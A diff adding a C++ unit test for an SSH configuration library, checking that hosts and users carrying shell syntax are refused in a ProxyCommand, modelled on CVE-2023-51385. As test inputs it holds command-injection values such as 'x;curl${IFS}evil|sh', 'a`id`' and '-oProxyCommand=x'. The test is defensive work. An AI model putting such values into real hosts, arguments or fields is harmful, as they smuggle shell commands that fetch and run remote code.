@@ -294,6 +294,42 @@ TEST_F(SshConfigInclude, ErrorsNameTheIncludeLineAndTheIncludedFile) {
     EXPECT_NE(no_home.error().find("cfg:1"), std::string::npos) << no_home.error();
 }
 
+// CVE-2023-51385's shape: a host or user from clusters.json or --host must not become shell syntax in a
+// ProxyCommand (libssh runs it through /bin/sh). Refused with the value, the token and the file:line;
+// ordinary names, IPs and [v6] addresses still expand.
+TEST(SshConfig, ProxyCommandRefusesShellCharactersInTokens) {
+    auto config = parse_ssh_config("Host *\n    ProxyCommand ssh -W %h:%p bastion\n", "cfg");
+    ASSERT_TRUE(config.ok()) << config.error();
+    ConnectOptions options;
+    options.host = "x;curl${IFS}evil|sh";
+    auto target = resolve_ssh_target(options, *config, "/h", "me");
+    ASSERT_FALSE(target.ok());
+    EXPECT_NE(target.error().find("cfg:2"), std::string::npos) << target.error();
+    EXPECT_NE(target.error().find("%h"), std::string::npos) << target.error();
+    EXPECT_NE(target.error().find("x;curl${IFS}evil|sh"), std::string::npos) << target.error();
+
+    options.host = "-oProxyCommand=x";
+    EXPECT_FALSE(resolve_ssh_target(options, *config, "/h", "me").ok());
+    options.host = "login";
+    options.user = "a`id`";
+    auto user_config = parse_ssh_config("Host *\n    ProxyCommand connect %r@%h %p\n", "cfg");
+    ASSERT_TRUE(user_config.ok());
+    target = resolve_ssh_target(options, *user_config, "/h", "me");
+    ASSERT_FALSE(target.ok());
+    EXPECT_NE(target.error().find("%r"), std::string::npos) << target.error();
+
+    options.user = "first.last-2_x";
+    for (const char* host : {"login-1.cluster.example.org", "10.0.0.5", "[fe80::1%eth0]"}) {
+        options.host = host;
+        target = resolve_ssh_target(options, *config, "/h", "me");
+        ASSERT_TRUE(target.ok()) << host << ": " << target.error();
+        EXPECT_EQ(target->proxy_command, std::string("ssh -W ") + host + ":22 bastion");
+    }
+    // Only a ProxyCommand is a shell command: the same host without one resolves (libssh never runs it).
+    options.host = "x;y";
+    EXPECT_TRUE(resolve_ssh_target(options, *parse_ssh_config("", "cfg"), "/h", "me").ok());
+}
+
 TEST(SshConfig, ProxyCommandIsExpandedAndExcludesProxyJump) {
     auto config = parse_ssh_config(R"(Host login
     HostName login.cluster.org
